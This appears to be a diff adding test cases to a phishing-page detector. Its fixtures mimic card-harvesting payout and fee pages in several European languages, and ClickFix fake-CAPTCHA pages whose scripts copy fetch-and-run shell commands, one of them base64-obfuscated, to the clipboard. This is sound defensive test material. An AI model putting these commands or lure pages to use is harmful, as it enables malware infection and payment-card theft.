@@ -1409,6 +1409,16 @@ describe('analysis: signal rules', () => {
       clean(judge('https://www.epicerie-maison-lavande.example/commande/paiement', `<title>Paiement - Maison Lavande, épicerie fine</title><h2>Paiement</h2><p>Comté 18 mois × 1 — 14,20 € · Miel de lavande × 2 — 19,00 € · Livraison — 8,50 € · Total : 41,70 €</p>${card}`));
     });
 
+    it('Central European and Nordic kits: "the buyer has paid" (Czech, Serbian Cyrillic) and "you are entitled to compensation" (Swedish) beside a card to receive it; a parking fine and a customs fee named in Swedish and Hungarian; a marketplace\'s own payout page naming itself is not', () => {
+      const card = '<form><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>OK</button></form>';
+      decides('payout-card-form', 'https://inzerce-bezpecna-platba.example/prijem/7', `<title>Bezpečná platba</title><p>Kupující za váš inzerát zaplatil 8 400 Kč. Vyplňte údaje karty, na kterou chcete peníze přijmout.</p>${card}`);
+      decides('payout-card-form', 'https://oglasi-isplata.example/oglas/7', `<title>Безбедна купопродаја</title><p>Купац Марко П. је уплатио 12.000 дин. за ваш оглас. Унесите податке картице.</p>${card}`);
+      decides('payout-card-form', 'https://elpris-ersattning.example/ansok', `<title>Ansökan</title><p>Hushåll i elområde 4 har rätt till kompensation för höga elpriser.</p>${card}`);
+      decides('fee-card-form', 'https://stad-betala.example/p/', `<title>Betala felparkeringsavgift</title><p>Belopp 650 kr</p>${card}`);
+      decides('fee-card-form', 'https://csomag-vam.example/k/', `<title>Vámkezelési díj</title><p>Fizetendő: 1 890 Ft</p>${card}`);
+      clean(judge('https://www.bazar-vlastni.example/platba/prijem', `<title>Příjem platby | Bazar Vlastní</title><h1>Bazar Vlastní</h1><p>Kupující zaplatil 8 400 Kč. Peníze vám pošleme na účet uvedený v profilu.</p><footer>© 2026 Bazar Vlastní s.r.o.</footer>`));
+    });
+
     it('a small fee is read in the currency it is asked in (NT$ 112, 9.800 Ft, ₩3,000), and a Chinese toll subject inside a longer word; a fortune in forints is not a small fee, nor are four forint prices of a basket', () => {
       const card = '<form method="post"><input name="cc" autocomplete="cc-number"><input name="exp" autocomplete="cc-exp"><input name="cvv" autocomplete="cc-csc"><button>OK</button></form>';
       decides('fee-card-form', 'https://etc-toll.pay-notice.example/tw/', `<title>國道通行費欠費繳納</title><h1>國道通行費欠費通知</h1><p>欠費金額：NT$ 112，請於今日內完成繳費。</p>${card}`);
@@ -1424,6 +1434,17 @@ describe('analysis: signal rules', () => {
       decides('clickfix-paste-pretext', 'https://office-docview.pages.dev/Contract.docx', '<title>Contract.docx - Word</title><h2>"Word Online" extension is not installed</h2><p>To open this document, the Word Online extension must be installed.</p><ol><li>Click the Copy button below</li><li>Right-click the Windows Start button and choose Windows PowerShell (Admin)</li><li>Right-click inside the window to paste, then press Enter</li></ol><button>Copy</button>');
       clean(judge('https://docs.toolsmith.example/install/windows', '<title>Install on Windows | Toolsmith docs</title><h1>Install on Windows</h1><p>Right-click the Start button and choose Windows PowerShell (Admin). Paste the following, then press Enter:</p><pre>winget install Toolsmith.CLI</pre><p>To run the script later, open it with PowerShell.</p><footer>© 2026 Toolsmith</footer>'));
       decides('malware-lure-download', 'https://land-tax-app.example/download/', '<title>Land tax app</title><h1>Download the app to receive your tax refund</h1><a href="/download/LandTaxPlus_3.2.1.apk">Download app (Android)</a><p>Open the app, then enable the Accessibility service so the app can scan your face.</p>');
+    });
+
+    it('a fake check in Czech and Lithuanian ("Nejsem robot", "nesate robotas") beside Run or Terminal steps is ClickFix; a macOS command that decodes base64 into bash -c on the clipboard is a shell command; a real install page\'s copy button is not', () => {
+      decides('clickfix-instructions', 'https://www.zahradnictvi-example.cz/', '<h1>Zahradnictví</h1><div class="cf"><p>Ověřte, že jste člověk.</p><label><input type="checkbox"> Nejsem robot</label><ol><li>Stiskněte klávesu ⊞ Win + R</li><li>Do okna Spustit vložte Ctrl + V</li><li>Potvrďte klávesou Enter</li></ol></div>');
+      decides('clickfix-scripted-copy', 'https://www.receptai-example.lt/', '<h1>Cepelinai</h1><p>Patvirtinkite, kad nesate robotas</p><button id="b">Kopijuoti</button><script>document.getElementById("b").onclick=function(){navigator.clipboard.writeText("echo check && " + "/bin/zsh -c \\"$(curl -fsSL https://cdn-verify.example/i.sh)\\"")}</script>');
+      const mac = judge('https://launcher-fix.example/mac', '<h1>Fix launcher error 1034</h1><p>Copy the command and paste it into Terminal.</p><button id="c">Copy</button><script>document.getElementById("c").onclick=function(){navigator.clipboard.writeText(\'/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9oLnNoIHwgYmFzaA== | base64 -d)"\')}</script>');
+      assert.ok(ids(mac).includes('clipboard-shell-command'), JSON.stringify(ids(mac)));
+      assert.equal(mac.verdict, 'malicious');
+      // A national CERT's warning in Finnish quoting the fake check and its steps is a write-up.
+      clean(judge('https://www.kyber-example.fi/ajankohtaista/valekaptchat', `<title>Vale-CAPTCHAt huijaavat käyttäjiä ajamaan haittakoodia</title><h1>Vale-CAPTCHAt huijaavat käyttäjiä</h1><p>${'Huijarit näyttävät väärennetyn «Vahvista, että olet ihminen» -ikkunan ja neuvovat painamaan Win + R, Ctrl + V ja Enter. Komento lataa haittaohjelman. '.repeat(4)}</p>`));
+      clean(judge('https://docs.brewkit.example/install', '<title>Install | Brewkit docs</title><h1>Install Brewkit</h1><p>Paste this into Terminal:</p><pre id="cmd">/bin/bash -c "$(curl -fsSL https://docs.brewkit.example/install.sh)"</pre><button onclick="navigator.clipboard.writeText(document.getElementById(\'cmd\').textContent)">Copy</button><p>© 2026 Brewkit</p>'));
     });
 
     it('an IT blog explaining fake-CAPTCHA attacks (Win+R, Ctrl+V, a defanged command) is a write-up, not a ClickFix page; so is a Spanish one', () => {
